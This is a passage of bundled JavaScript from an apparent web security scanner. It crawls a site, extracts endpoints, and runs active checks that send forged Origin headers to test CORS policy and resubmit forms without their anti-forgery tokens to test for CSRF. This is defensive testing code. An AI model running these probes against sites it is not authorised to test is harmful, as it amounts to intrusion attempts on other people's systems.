}
#listener() {
const {explorer: explorer} = this;
return {
onReport: report => {
if (this.#gate.isCrawling) explorer.onReport(report); else this.#examination.onReport(report);
},
onIssue: issue => explorer.sightings.addIssue(issue),
onPopup: url => explorer.onRoute(url)
};
}
#progress() {
const {explorer: explorer} = this;
const {traffic: traffic} = this.#gate;
const {ends: ends, isOver: isOver} = this.#runner;
const stopped = explorer.stoppedBy ?? OVER;
const unfinished = isOver ? OVER : "responses or pages came too late";
return {
ends: ends,
pagesOpened: explorer.opened.size,
pagesLeft: {
count: explorer.pagesLeft,
reason: stopped
},
actionsLost: explorer.actionsLost,
actionsLeft: {
count: explorer.actionsLeft,
reason: stopped
},
steps: this.#prover.steps,
pagesUnproven: {
count: this.#prover.unproven,
reason: this.#examination.stopReason() ?? unfinished
},
requestsRefused: traffic.refused.size,
blockedHosts: traffic.blockedHosts
};
}
}
const foreign_urls_LENGTH_MAX = 3 * 1024 * 1024;
const foreign_urls_FOUND_MAX = 200;
const QUERY_MAX = 200;
const LITERAL = /["'`]((?:https?:)?\/\/[^"'`\s<>\\]{3,2000})["'`]/g;
const IMPORT = /\b(?:from|import)\s{0,20}\(?\s{0,20}["'`]([^"'`\s\\]{1,2000})["'`](?!\s{0,20}\+)/g;
const CSS_IMPORT = /@import\s{1,20}(?:url\(\s{0,20})?["']?([^"')\s;]{1,2000})/gi;
function foreignUrl(text, base, origin) {
const url = URL.parse(text, base);
if (url === null || !/^https?:$/.test(url.protocol) || url.origin === origin) return null;
if (url.username !== "" || url.password !== "") return null;
url.hash = "";
return url.href;
}
function foreignUrlsOfMarkup({base: base, subresources: subresources}, origin) {
return subresources.filter(({kind: kind}) => kind === "script" || kind === "stylesheet" || kind === "preload").flatMap(({url: url}) => foreignUrl(url, base, origin) ?? []);
}
function foreignUrlsOfScript(script, base, origin, isMap = false) {
const text = script.slice(0, foreign_urls_LENGTH_MAX).replaceAll("\\/", "/");
const found = new Set;
for (const [, literal = ""] of text.matchAll(LITERAL)) {
const url = foreignUrl(literal, base, origin);
if (url !== null && (isMap || /\.(?:m?js|css)$/i.test(new URL(url).pathname))) found.add(url);
if (found.size >= foreign_urls_FOUND_MAX) break;
}
return [ ...found ];
}
function importsOf(text, kind, base, origins) {
const found = new Set;
for (const [, specifier = ""] of text.slice(0, foreign_urls_LENGTH_MAX).matchAll(kind === "style" ? CSS_IMPORT : IMPORT)) {
const isPlace = kind === "style" || /^(?:\.{0,2}\/|https?:)/i.test(specifier);
const url = isPlace ? foreignUrl(specifier, base, "") : null;
if (url !== null && mayImport(url, origins)) found.add(url);
if (found.size >= foreign_urls_FOUND_MAX) break;
}
return [ ...found ];
}
function mayImport(url, origins) {
const {origin: origin, search: search} = new URL(url);
return origins.has(origin) && search.length <= QUERY_MAX;
}
const FOREIGN_MAX = 40;
const foreign_sources_PAGES_MAX = 10;
const SCRIPTS_MAX = 20;
const foreign_sources_WAVE = 6;
const COLLECT_MS = 15e3;
class ForeignSources {
#context;
#loaded=new Map;
#named=new Set;
#end=performance.now() + COLLECT_MS;
constructor(context) {
this.#context = context;
}
static async load(context, pages) {
if (context.fetchForeign === undefined) return null;
const sources = new ForeignSources(context);
await sources.#name(pages);
await sources.#load();
return sources;
}
get(url) {
return this.#loaded.get(URL.parse(url)?.href ?? "") ?? null;
}
async #name(pages) {
const isSignedIn = this.#context.identities.includes("user");
const asGuest = isSignedIn ? await this.#fetchOwn(pages.map(({request: request}) => request.url).slice(0, foreign_sources_PAGES_MAX)) : pages;
const scripts = new Set;
for (const page of asGuest) for (const url of this.#nameOf(page)) scripts.add(url);
for (const page of isSignedIn ? pages : []) for (const url of this.#markupOf(page)) if (!url.includes("?")) this.#named.add(url);
const {origin: origin} = this.#context.target;
for (const {request: request, response: response} of await this.#fetchOwn([ ...scripts ].slice(0, SCRIPTS_MAX))) for (const url of foreignUrlsOfScript(response.text, request.url, origin)) this.#named.add(url);
}
#nameOf(page) {
const {origin: origin} = this.#context.target;
const document = (0, html_document.lM)(page);
if (document === null) return [];
for (const url of this.#markupOf(page)) this.#named.add(url);
for (const {url: url, text: text, type: type} of document.scripts) if (url === null) for (const found of foreignUrlsOfScript(text, document.base, origin, type === "importmap")) this.#named.add(found);
return document.scripts.flatMap(({url: url}) => url === null || URL.parse(url)?.origin !== origin ? [] : url);
}
#markupOf(page) {
const document = (0, html_document.lM)(page);
return document === null ? [] : foreignUrlsOfMarkup(document, this.#context.target.origin);
}
async #fetchOwn(urls) {
const identity = this.#context.identities.includes("user") ? {
identity: "none"
} : {};
const found = [];
for (let from = 0; from < urls.length && performance.now() < this.#end; from += foreign_sources_WAVE) {
const wave = urls.slice(from, from + foreign_sources_WAVE);
const attempts = await Promise.all(wave.map(url => this.#context.fetch({
url: url,
maxBytes: BODY_BYTES_MAX,
...identity
})));
found.push(...attempts.filter(http.m_).filter(({response: response}) => response.status === 200));
}
return found;
}
async #load() {
const origins = new Set([ ...this.#named ].map(url => new URL(url).origin));
const waiting = [ ...this.#named ];
while (waiting.length > 0 && this.#loaded.size < FOREIGN_MAX && performance.now() < this.#end) {
const wave = waiting.splice(0, Math.min(foreign_sources_WAVE, FOREIGN_MAX - this.#loaded.size));
const attempts = await Promise.all(wave.map(url => this.#context.fetchForeign?.(url)));
for (const [index, url] of wave.entries()) {
const attempt = attempts[index];
if (attempt === undefined || !(0, http.m_)(attempt)) continue;
this.#loaded.set(url, attempt);
for (const next of this.#ledTo(url, attempt, origins)) if (!this.#named.has(next)) {
this.#named.add(next);
waiting.push(next);
}
}
}
}
#ledTo(url, exchange, origins) {
const {status: status, text: text} = exchange.response;
if (status >= 300 && status < 400) {
const next = foreignUrl(redirectOf(exchange) ?? "", url, this.#context.target.origin);
return next !== null && mayImport(next, origins) ? [ next ] : [];
}
const kind = (0, http.JL)(exchange) === "text/css" ? "style" : "script";
return status === 200 ? importsOf(text, kind, url, origins) : [];
}
}
async function gatherViews(context) {
const {browserPath: browserPath, scanType: scanType, options: options} = context;
if (scanType === "quick") return {
state: "not_applicable",
reason: "a quick scan uses no browser"
};
if (options.browser === "off") return {
state: "not_applicable",
reason: "not carried out: the browser is off"
};
if (browserPath === null) return {
state: "not_applicable",
reason: "not carried out: this machine has no Chrome, Chromium or Edge"
};
const crawl = await context.gather("crawl");
if (crawl.state !== "available") return crawl;
const pages = crawl.value.pages.filter(({exchange: exchange}) => exchange.response.status < 400 && (0, 
html_document._6)(exchange));
const crawled = pages.map(({exchange: exchange}) => exchange);
const browsing = new Browsing(context, {
browserPath: browserPath,
foreign: await ForeignSources.load(context, crawled),
crawled: crawled
});
const {queue: queue} = browsing.explorer;
for (const url of [ context.place?.page ?? context.target.startUrl, ...crawled.map(({request: request}) => request.url) ]) queue.add(url);
queue.addLast(crawl.value.mentioned ?? []);
try {
browsing.time.begin("browser", 1);
await browsing.work();
return {
state: "available",
value: viewsOf(browsing)
};
} catch (error) {
if (error instanceof BrowserStartError) return {
state: "failed",
code: "internal",
reason: error.message
};
throw error;
}
}
function viewsOf(browsing) {
return {
seen: () => browsing.seen(),
goOn: async share => {
if (!browsing.hasMore || !browsing.time.begin("active", share)) return false;
await browsing.work();
return true;
}
};
}
const script_endpoints_LENGTH_MAX = 512 * 1024;
function scriptEndpoints(script) {
const found = new Set;
const calls = /(?:fetch|axios(?:\.\w{2,8})?|\$\.(?:ajax|get|getJSON|post)|\.open\(\s*["'](?:GET|POST)["']\s*,|url\s*:)\s*(?:\(\s*)?["'`](\/[\w\-./~]{1,200})(?:\?[^"'`]{0,200})?["'`]/g;
const literals = /["'`](\/(?:api|rest|ajax|rpc|services?|v\d{1,2})\/[\w\-./~]{1,200})(?:\?[^"'`]{0,200})?["'`]/g;
const files = /(?:\bfetch|\baxios(?:\.get)?|\$\.(?:get|getJSON)|[hH]ttp(?:Client)?\.get(?:<[\w[\]]{1,60}>)?)\s*\(\s*["'`](?:\.\/)?([\w-][\w\-./]{0,150}\.json)(?:\?[^"'`]{0,200})?["'`]/g;
const text = script.slice(0, script_endpoints_LENGTH_MAX);
for (const pattern of [ calls, literals ]) {
for (const match of text.matchAll(pattern)) {
const path = match[1] ?? "";
if (!path.startsWith("//") && !/\.(?:js|css|html?|png|jpe?g|svg|gif|woff2?|map)$/i.test(path)) found.add(path);
}
}
for (const match of text.matchAll(files)) {
const path = `/${match[1] ?? ""}`;
if (!path.includes("..") && !path.includes("//")) found.add(path);
}
return [ ...found ];
}
const script_endpoints_known = new WeakMap;
function endpointsOf(exchange) {
const endpoints = script_endpoints_known.get(exchange) ?? scriptEndpoints(exchange.response.text);
script_endpoints_known.set(exchange, endpoints);
return endpoints;
}
const IMPORTS_MAX = 40;
const script_endpoints_FORMS = [ /\bimport\s*\(\s*(?:\/\*[^*]{0,200}\*\/\s*)?["'`]([^"'`\s]{1,500})["'`]\s*\)/g, /\b(?:import|export)\b[\w\s{},*$]{0,300}?\bfrom\s*["']([^"'\s]{1,500})["']/g, /(?:^|[;\s}])import\s*["']([^"'\s]{1,500})["']/g, /\b(?:new\s+(?:Shared)?Worker|serviceWorker\s*\.\s*register|importScripts)\s*\(\s*["'`]([^"'`\s]{1,500})["'`]/g ];
function scriptImports(script) {
const text = script.slice(0, script_endpoints_LENGTH_MAX);
const found = new Map;
for (const form of script_endpoints_FORMS) for (const match of text.matchAll(form)) {
const name = match[1] ?? "";
const isAddress = /^(?:\.{0,2}\/|https?:\/\/)/.test(name) || /^[\w-]+\.m?js$/.test(name);
if (isAddress && !name.includes("${") && !/\.(?:css|json|svg|wasm)(?:$|\?)/.test(name) && !found.has(name)) found.set(name, match.index);
}
return [ ...found ].sort(([, one], [, other]) => one - other).slice(0, IMPORTS_MAX).map(([name]) => name);
}
async function siteInterfaces(context, landingUrl) {
if (context.place !== undefined) return (0, core_place.Wn)(context.place).filter(url => url !== landingUrl);
const crawl = await context.gather("surface");
if (crawl.state !== "available") return [];
const {pages: pages, resources: resources, endpoints: endpoints} = crawl.value;
const responses = [ ...pages.map(({exchange: exchange}) => exchange), ...resources ];
const named = [ ...resources, ...pages.map(({exchange: exchange}) => exchange) ].flatMap(endpointsOf).map(path => context.target.origin + path).filter(url => !(0, 
link_policy.Ch)(new URL(url)));
const addressesOf = chosen => chosen.map(({request: request}) => request.url);
const found = new Set([ ...endpoints, ...addressesOf(responses.filter(sendsCorsHeaders)), ...addressesOf(responses.filter(site_interfaces_isJson)), ...named ]);
found.delete(landingUrl);
return [ ...found ];
}
function sendsCorsHeaders({response: {headers: headers}}) {
return headers.some(([name]) => /^access-control-allow-/i.test(name)) || /\borigin\b/i.test((0, 
http.wx)(headers, "vary") ?? "");
}
function site_interfaces_isJson({response: {headers: headers}}) {
return /^application\/(?:[\w.+-]+\+)?json\b/i.test((0, http.wx)(headers, "content-type") ?? "");
}
var cors_grants = __webpack_require__(5142);
const NULL = [ "null", "null" ];
const RESPONSE_BYTES = 16384;
const gather_cors_INTERFACES_MAX = 12;
const FULLY_PROBED_MAX = 8;
const gatherCors = async context => {
const landing = await context.gather("landing");
if (landing.state !== "available") return landing;
const {url: landingUrl} = landing.value.final.request;
const [first, ...others] = foreignOrigins(context.target, context.token());
if (first === undefined) return {
state: "available",
value: {
probes: []
}
};
const sendsCookies = context.identities.includes("user") || Object.keys(context.options.request_headers ?? {}).some(name => /^cookie$/i.test(name));
const probe = async (url, [kind, origin]) => {
const own = (0, cache_buster.SG)((0, cache_buster.un)(url), context.token(10));
const request = {
url: own,
headers: [ [ "Origin", origin ] ],
maxBytes: RESPONSE_BYTES,
fresh: true
};
const sent = {
kind: kind,
origin: origin,
attempt: await context.fetch(request)
};
return sendsCookies && gather_cors_isOpen(sent) ? {
...sent,
anonymous: await context.fetch({
...request,
isAnonymous: true
})
} : sent;
};
if (context.scanType === "quick") return {
state: "available",
value: {
probes: [ await probe(landingUrl, first) ]
}
};
const interfaces = (await siteInterfaces(context, landingUrl)).slice(0, gather_cors_INTERFACES_MAX);
const openings = await Promise.all([ landingUrl, ...interfaces ].map(async url => ({
url: url,
probe: await probe(url, first)
})));
const reached = openings.filter(({probe: probe}, index) => index === 0 || exists(probe));
const restrictive = reached.filter(({probe: probe}) => !gather_cors_isOpen(probe));
const chosen = [ ...restrictive.filter(sendsCors), ...restrictive.filter(opening => !sendsCors(opening)) ];
const further = await Promise.all(chosen.slice(0, FULLY_PROBED_MAX + 1).flatMap(({url: url}) => others.map(origin => probe(url, origin))));
return {
state: "available",
value: {
probes: [ ...openings.map(({probe: probe}) => probe), ...further ]
}
};
};
function sendsCors({probe: {attempt: attempt}}) {
return (0, http.m_)(attempt) && sendsCorsHeaders(attempt);
}
function exists({attempt: attempt}) {
return (0, http.m_)(attempt) && (![ 404, 410 ].includes(attempt.response.status) || sendsCorsHeaders(attempt));
}
function gather_cors_isOpen(probe) {
return (0, cors_grants.pR)([ probe ]).some(({withCredentials: withCredentials}) => withCredentials);
}
function foreignOrigins(target, token) {
const {scheme: scheme, host: host, port: port, isIpAddress: isIpAddress} = target;
const origins = [ [ "arbitrary", `https://${token}.example` ], NULL ];
const name = (0, target_address.V8)(host, null);
const suffix = target.origin.slice(`${scheme}://${name}`.length);
if (!host.includes(":")) origins.push([ "prefix", `${scheme}://${name}.${token}.example` ]);
if (suffix !== "") origins.push([ "prefix", `${target.origin}.${token}.example` ]);
if (!isIpAddress) origins.push([ "suffix", `${scheme}://${token}${name}${suffix}` ]);
if (scheme === "https") origins.push([ "http-scheme", `http://${(0, target_address.V8)(host, port === 443 ? null : port)}` ]);
return origins;
}
var link_reader = __webpack_require__(76974);
const mentioned_urls_LENGTH_MAX = 512 * 1024;
const TRIED_MAX = 1e3;
const IN_MARKUP = /(?<=[\s"'(=,;>])(?:https?:\/\/[^\s"'<>()\\]{1,500}|\.{0,2}\/[\w~-][\w./~%-]{0,250}(?:\?[\w=&;.%+~-]{0,200})?)(?=[\s"'<>),;#]|$)/g;
const PROGRAM_IN_MARKUP = /(?<==\s?["'])[\w-]{1,100}\.[a-z]{2,5}(?:\?[\w=&;.%+~-]{0,200})?(?=["'])/gi;
const IN_SCRIPT = /https?:\/\/[^\s"'`<>()\\]{1,500}|(?<=["'`])\.{0,2}\/[\w~-][\w./~%-]{0,250}(?:\?[\w=&;.%+~-]{0,200})?(?=["'`])/g;
function mentionedUrls(exchange) {
const {request: request, response: response} = exchange;
const document = (0, html_document.lM)(exchange);
const base = document?.base ?? request.url;
const {origin: origin} = new URL(request.url);
const found = new Set;
const add = reference => {
if (reference == null || reference === "") return;
const resolved = (0, document_base.O)(reference.replaceAll("&amp;", "&"), base);
const url = resolved === null ? null : new URL(resolved);
if (url === null || url.origin !== origin || (0, data_names.cP)("machine-folder", url.pathname.split("/", 2)[1] ?? "")) return;
if (!(0, link_policy.Ch)(url) && !namesWriting(url.pathname)) found.add(url.href);
};
for (const match of ((0, http.wx)(response.headers, "link") ?? "").slice(0, 8192).matchAll(/<([^<>\s]{1,2000})>/g)) add(match[1]);
add((0, link_reader.tw)((0, http.wx)(response.headers, "refresh") ?? ""));
add((0, http.wx)(response.headers, "content-location"));
for (const reference of referencesIn(exchange)) if (found.size < TRIED_MAX) add(reference);
return [ ...found ];
}
function referencesIn(exchange) {
const isDocument = (0, html_document.lM)(exchange) !== null;
const type = (0, http.JL)(exchange);
const pattern = isDocument || type === "text/css" ? IN_MARKUP : /script/.test(type) ? IN_SCRIPT : null;
const text = exchange.response.text.slice(0, mentioned_urls_LENGTH_MAX);
const urls = pattern === null ? [] : matchesOf(pattern, text, TRIED_MAX).map(match => match.replace(/[.,]$/, ""));
const programs = isDocument ? matchesOf(PROGRAM_IN_MARKUP, text, TRIED_MAX) : [];
return new Set([ ...urls, ...programs.filter(match => (0, data_names.yW)("program-file", match.split("?", 1)[0] ?? "")) ]);
}
function matchesOf(pattern, text, max) {
const found = new Set;
for (const [match] of text.matchAll(pattern)) {
if (found.size >= max) break;
found.add(match);
}
return [ ...found ];
}
const place_points_METHODS = [ "GET", "POST", "PUT", "PATCH" ];
function placePoints({requests: requests, location: location}) {
const parameter = location.parameter ?? "";
const isPlace = point => {
const shown = (0, point_location.RI)(point);
return shown.url === location.url && shown.method === location.method && shown.parameter === parameter;
};
for (const request of requests) {
const point = pointsOf(request, parameter).find(isPlace);
if (point !== undefined) return [ point, {
...point,
isInvented: true
} ];
}
return [];
}
function pointsOf(sent, parameter) {
const address = URL.parse(sent.url);
if (address === null || !place_points_METHODS.includes(sent.method)) return [];
const spelled = /^header (.+)$/.exec(parameter)?.[1] ?? "";
const all = (0, core_place.$8)(sent).map(([name, value]) => [ name === spelled.toLowerCase() ? spelled : name, value ]);
const fieldOf = wanted => all.find(([name]) => name === wanted)?.[1] ?? "";
const cookies = cookiePairs(fieldOf("cookie"));
const headers = all.filter(([name]) => name !== "cookie" && name !== "content-type");
const body = sent.body === null ? null : endpoint_points_bodyOf(fieldOf("content-type"), sent.body);
const request = {
method: sent.method,
url: `${address.origin}${address.pathname}`,
query: (0, cache_buster.r9)([ ...address.searchParams ]),
headers: headers,
cookies: cookies,
...body === null ? {} : {
body: body
}
};
const pairs = (kind, list) => list.map(([name, baseline]) => ({
kind: kind,
name: name,
baseline: baseline,
request: request
}));
const names = (of, list) => list.map(([name]) => ({
kind: "name",
of: of,
name: name,
baseline: name,
request: request
}));
return [ ...pairs("query", request.query), ...pairs("header", headers), ...pairs("cookie", cookies), ...bodyPoints(request), ...names("query", request.query), ...body !== null && (0, 
insertion_point.Ce)(body) ? names("form", body.fields) : [], ...sent.body === null ? [] : documentPoints(request, sent.body), ...place_points_pathPoints(request), {
kind: "query-string",
baseline: address.search.slice(1),
request: request
} ];
}
function cookiePairs(field) {
return field.split("; ").flatMap(pair => {
const [, name, value = ""] = /^([^=]{1,200})=(.*)$/s.exec(pair) ?? [];
return name === undefined ? [] : [ [ name, value ] ];
});
}
function documentPoints(request, text) {
if (!text.startsWith("<?xml")) return [];
return [ {
kind: "document",
baseline: text,
request: {
...request,
body: {
encoding: "xml",
value: {}
}
}
} ];
}
function place_points_pathPoints(request) {
const segments = new URL(request.url).pathname.split("/").slice(1);
return segments.map((value, segment) => ({
kind: "path",
segment: segment,
baseline: (0, shared_text.oF)(value),
request: request
}));
}
var forged_form = __webpack_require__(20080);
const UNFILLED = new Set([ "hidden", "submit", "image" ]);
function menuOf({fields: fields}) {
const [list, ...others] = fields.filter(({type: type}) => !UNFILLED.has(type));
return list?.options !== undefined && others.length === 0 ? list : null;
}
async function followMenu(context, form, sent, from) {
const list = menuOf(form);
const options = list === null ? [] : optionsOf(form, list);
if (options.length < TRIED - 1 || follow_menu_placeOf(sent) === null) return {
redirects: [],
tried: []
};
const choose = async (option, fresh = false) => {
const fields = form.fields.map(field => field === list ? {
...field,
value: option
} : field);
const attempt = await context.fetch({
...(0, insertion_point.Hs)(formRequest({
...form,
fields: fields
})),
fresh: fresh
});
return (0, http.m_)(attempt) ? attempt : null;
};
const tried = await trial(options, choose);
if (!isMenu(tried)) return {
redirects: [],
tried: tried
};
const redirects = [];
for (const option of options) {
const {milliseconds: milliseconds, requests: requests} = context.room("crawl");
if (context.signal.aborted || milliseconds === 0 || requests === 0) break;
const exchange = await choose(option);
if (exchange !== null && follow_menu_placeOf(exchange) !== null) redirects.push({
url: form.action,
exchange: exchange,
discoveredFrom: from
});
}
return {
redirects: redirects,
tried: []
};
}
const TRIED = 4;
async function trial(options, choose) {
const [last, middle] = [ options.length - 1, Math.floor(options.length / 2) ];
const tried = [];
for (const [index, at] of [ 1, middle, last, last ].entries()) {
const exchange = await choose(options[at] ?? "", index === TRIED - 1);
if (exchange !== null) tried.push(exchange);
if (exchange === null || follow_menu_placeOf(exchange) === null) break;
}
return tried;
}
function isMenu(tried) {
const places = tried.map(follow_menu_placeOf);
const [again, once] = [ places.pop(), places.at(-1) ];
return places.length === TRIED - 1 && again !== null && again === once && new Set(places).size > 1;
}
function optionsOf({action: action}, {name: name, options: options = []}) {
const harmless = options.filter(({value: value, text: text}) => {
const chosen = new URL(action);
chosen.searchParams.set(name, value);
return !(0, link_policy.Ov)(chosen, text);
});
return [ ...new Set(harmless.map(({value: value}) => value)) ];
}
function follow_menu_placeOf({request: request, response: response}) {
const location = response.status >= 300 && response.status < 400 ? (0, http.wx)(response.headers, "location") : undefined;
const place = (0, document_base.O)(location ?? "", request.url);
return location !== undefined && place !== null && new URL(place).origin === new URL(request.url).origin ? place : null;
}
const SUBMITTED_MAX = 20;
const SAME_MAX = 3;
async function submitForms(context, pages) {
const responses = [];
const menus = [];
const sent = [];
const known = new Set;
const submitted = new Map;
const waiting = pages.flatMap(submit_forms_formsOf);
while (responses.length < SUBMITTED_MAX && !context.signal.aborted) {
const next = waiting.shift();
if (next === undefined) break;
const {form: form, page: page} = next;
const names = form.fields.map(({name: name}) => name).join(",");
const key = `${(0, url_shape.T2)(new URL(form.action))} ${names}`;
const times = submitted.get(names) ?? 0;
const request = submit_forms_requestOf(context, form);
if (request === null || known.has(key) || times >= SAME_MAX) continue;
submitted.set(names, times + 1);
known.add(key);
const attempt = await context.fetch((0, insertion_point.Hs)(request));
if (!(0, http.m_)(attempt)) continue;
await context.analyse(attempt);
const response = {
url: form.action,
exchange: attempt,
discoveredFrom: page.url
};
responses.push(response);
sent.push(attempt);
waiting.unshift(...submit_forms_formsOf(response));
if (times > 0) continue;
const {redirects: redirects, tried: tried} = await followMenu(context, form, attempt, page.url);
menus.push(...redirects);
sent.push(...tried);
}
return {
responses: responses,
menus: menus,
sent: sent
};
}
function submit_forms_requestOf(context, form) {
const action = new URL(form.action);
if (action.origin !== context.target.origin || !isSubmittable(form) || !(0, link_policy.af)(action, context.options)) return null;
const request = markedRequest(formRequest(form), context.marker);
return mayWrite(request) ? request : null;
}
function submit_forms_formsOf(page) {
const forms = (0, html_document.lM)(page.exchange)?.forms ?? [];
return forms.filter(({method: method}) => method === "POST").map(form => ({
form: form,
page: page
}));
}
function isSubmittable({fields: fields}) {
return !fields.some(({type: type}) => type === "password" || type === "file");
}
const FORGED = "content.csrf-token";
const forge_forms_FORMS_MAX = 5;
const forge_forms_REFUSED_MAX = 2;
function sentOf({own: own, stranger: stranger, forged: forged}) {
return [ own, stranger, forged ].map(({exchange: exchange}) => exchange);
}
async function forgedForms(context, pages) {
const {options: options, ownershipProven: ownershipProven} = context;
const isOn = options.active_post === true && ownershipProven && options.disable_checks?.includes(FORGED) !== true;
if (!isOn) return [];
const forged = [];
for (const {page: page, form: form} of formsToForge(context, pages).slice(0, forge_forms_FORMS_MAX)) {
if (context.room("crawl").milliseconds === 0) break;
const result = await forge(context, page, form);
if (result !== null) forged.push(result);
if (forged.filter(one => (0, forged_form.$x)(one) === "refused").length >= forge_forms_REFUSED_MAX) break;
}
return forged;
}
function formsToForge({target: target, options: options}, pages) {
const found = new Map;
for (const {exchange: exchange} of pages.filter(page => isOfCookies(page.exchange))) for (const form of (0, 
html_document.lM)(exchange)?.forms ?? []) {
const action = new URL(form.action);
const isOwn = form.method === "POST" && action.origin === target.origin && (0, link_policy.af)(action, options);
if (!isOwn || !isSubmittable(form) || !mayWrite(formRequest(form))) continue;
const key = (0, url_shape.T2)(action);
if (!found.has(key)) found.set(key, {
page: exchange.request.url,
form: form
});
}
const hasToken = ({form: form}) => Number(form.fields.some(forged_form.yp));
return [ ...found.values() ].sort((one, other) => hasToken(one) - hasToken(other));
}
function isOfCookies({request: {method: method, shownHeaders: shownHeaders = []}}) {
const has = name => (0, http.UE)(shownHeaders, name).length > 0;
return method === "GET" && has("cookie") && !has("authorization");
}
function withTokens(form, tokenOf) {
const fields = form.fields.flatMap(field => {
const value = (0, forged_form.yp)(field) ? tokenOf(field) : field.value;
return value === undefined ? [] : [ {
...field,
value: value
} ];
});
return {
...form,
fields: fields
};
}
async function changesOf(context, page, form) {
if (!form.fields.some(forged_form.yp)) return [ [ "none", fresh => fresh ] ];
const changes = [ [ "left out", fresh => withTokens(fresh, () => undefined) ], [ "changed", fresh => withTokens(fresh, ({value: value}) => context.token(value.length)) ] ];
const other = context.identities.includes("second") ? formOn(await forge_forms_read(context, page, "second"), form) : undefined;
if (other === undefined) return changes;
const tokenOf = ({name: name}) => other.fields.find(field => field.name === name)?.value;
return [ ...changes, [ "of another session", fresh => withTokens(fresh, tokenOf) ] ];
}
function formOn(page, {action: action}) {
return page === null ? undefined : (0, html_document.lM)(page)?.forms.find(form => form.action === action);
}
async function forge(context, page, form) {
const {origin: origin} = context.target;
const foreign = `https://${context.token(10)}.example`;
const own = await send(context, form, await forge_forms_read(context, page), {
origin: origin
});
if (own === null || own.exchange.response.status >= 400) return null;
const result = await resultOf(context, page, own);
let latest = result;
const sentBy = async manner => {
const now = latest?.request.url === page ? latest : await forge_forms_read(context, page);
const sent = await send(context, form, now, manner);
if (result !== null) latest = await forge_forms_read(context, result.request.url);
return sent === null ? null : {
...sent,
shown: latest
};
};
const stranger = await sentBy({
origin: origin,
isAnonymous: true
});
if (stranger === null) return null;
let last = null;
for (const [way, change] of await changesOf(context, page, form)) {
const forged = await sentBy({
origin: foreign,
change: change
});
if (forged === null) continue;
last = {
page: page,
action: form.action,
way: way,
own: {
...own,
shown: result
},
stranger: stranger,
forged: forged
};
if ((0, forged_form.$x)(last) === "same" || (0, forged_form.$x)(last) === "alike") break;
}
return last;
}
async function send(context, known, page, {origin: origin, isAnonymous: isAnonymous, change: change = form => form}) {
const form = formOn(page, known);
if (form === undefined) return null;
const marker = `${context.marker}${context.token(6)}`;
const request = (0, insertion_point.Hs)(markedRequest(formRequest(change(form)), marker));
const headers = [ ...request.headers, [ "Origin", origin ], [ "Referer", `${origin}/` ] ];
const whose = isAnonymous === undefined ? {} : {
isAnonymous: isAnonymous
};
const attempt = await context.fetch({
...request,
headers: headers,
fresh: true,
...whose
});
return (0, http.m_)(attempt) ? {
marker: marker,
exchange: attempt
} : null;
}
async function resultOf(context, page, {marker: marker, exchange: exchange}) {
const next = URL.parse((0, http.wx)(exchange.response.headers, "location") ?? page, exchange.request.url);
const isReadable = next?.origin === context.target.origin && (0, link_policy.af)(next, context.options) && !(0, 
link_policy.Ch)(next);
for (const url of new Set(isReadable ? [ next.href, page ] : [ page ])) {
const shown = await forge_forms_read(context, url);
if (shown !== null && (0, forged_form.L7)(shown, marker)) return shown;
}
return null;
}
async function forge_forms_read(context, url, identity = "user") {
const attempt = await context.fetch({
url: url,
identity: identity,
fresh: true
});
return (0, http.m_)(attempt) ? attempt : null;
}
async function crawlPlace(context, place, start) {
const read = (0, core_place.Wn)(place).map(url => ({
url: url
}));
const {pathname: pathname} = new URL(place.location.url);
const missing = {
url: `${pathname.slice(0, pathname.lastIndexOf("/") + 1)}${context.token(12)}`
};
const exchanges = await crawl_place_fetchAll(context, [ ...read, ...postedBy(context, place) ]);
const errorPages = await crawl_place_fetchAll(context, [ missing ]);
for (const exchange of [ ...exchanges, ...errorPages ]) await context.analyse(exchange);
const isRedirect = ({response: {status: status}}) => status >= 300 && status < 400;
const pages = [ start, ...exchanges.filter(exchange => !isRedirect(exchange) && exchange !== start) ];
const crawled = pages.map((exchange, index) => {
const from = pages.find((_, at) => at > 0 && at !== index) ?? start;
return {
url: exchange.request.url,
exchange: exchange,
discoveredFrom: index === 0 ? null : from.request.url
};
});
return {
pages: crawled,
forged: place.checkId === FORGED ? await forgedForms(context, crawled) : [],
resources: exchanges.filter(exchange => !isRedirect(exchange) && (0, html_document.lM)(exchange) === null),
parameters: placePoints(place),
errorPages: errorPages,
redirects: exchanges.filter(isRedirect)
};
}
function postedBy({options: options}, {requests: requests, checkId: checkId}) {
if (options.active_post !== true || checkId === FORGED || /^(?:active|api)\./.test(checkId)) return [];
return requests.flatMap(request => request.method !== "POST" || request.body === null ? [] : [ {
method: "POST",
url: request.url,
headers: (0, core_place.$8)(request),
body: request.body
} ]);
}
async function crawl_place_fetchAll(context, requests) {
return (await Promise.all(requests.map(request => context.fetch(request)))).filter(http.m_);
}
const page_behaviour_MEMBERS_MAX = 30;
const page_behaviour_TEXT_MAX = 4e3;
const JSON_MAX = 64 * 1024;
function behaviourOf(exchange) {
const {status: status, text: text} = exchange.response;
const document = (0, html_document.lM)(exchange);
const structure = document === null ? page_behaviour_membersOf(text) : structureOf(document);
return `${status} ${(0, http.JL)(exchange)} ${structure}`.slice(0, page_behaviour_TEXT_MAX);
}
function structureOf(document) {
const {title: title, elements: elements, forms: forms, scripts: scripts, stylesheets: stylesheets} = document;
const fields = forms.map(({method: method, fields: all}) => `${method} ${all.map(({name: name}) => name).join(",")}`);
const files = [ ...scripts.flatMap(({url: url}) => url ?? []), ...stylesheets.map(({url: url}) => url) ];
const parts = [ [ siteName(title) ], elements, fields, files.map(url => new URL(url).pathname) ];
return parts.map(part => [ ...new Set(part) ].slice(0, page_behaviour_MEMBERS_MAX).sort().join(" ")).join("|");
}
function siteName(title) {
const parts = title.split(/\s[-|:\u2013\u2014\u00b7]\s/);
return parts.length > 1 ? parts.at(-1) ?? "" : "";
}
function page_behaviour_membersOf(text) {
if (text.length > JSON_MAX || !/^\s*[[{]/.test(text)) return "";
const value = (0, shared_records.U4)(text);
const first = Array.isArray(value) ? value[0] : value;
return (0, shared_records.u4)(first) ? Object.keys(first).slice(0, page_behaviour_MEMBERS_MAX).sort().join(" ") : "";
}
const crawl_walk_WAVE = 6;
const DEAD_LINKS_MAX = 3;
const KEPT_BYTES_MAX = 64 * 1024 * 1024;
class CrawlWalk {
frontier;
pages;
redirects=[];
deadLinks=[];
mentioned=[];
#context;
#requestsMax;
#bodies=new Set;
#ended=null;
#requests=0;
#unanswered=0;
#unsent=0;
#keptBytes=0;
constructor(context, start) {
this.#context = context;
this.#requestsMax = context.room("crawl").share;
this.frontier = new CrawlFrontier(context.target.origin, context.options);
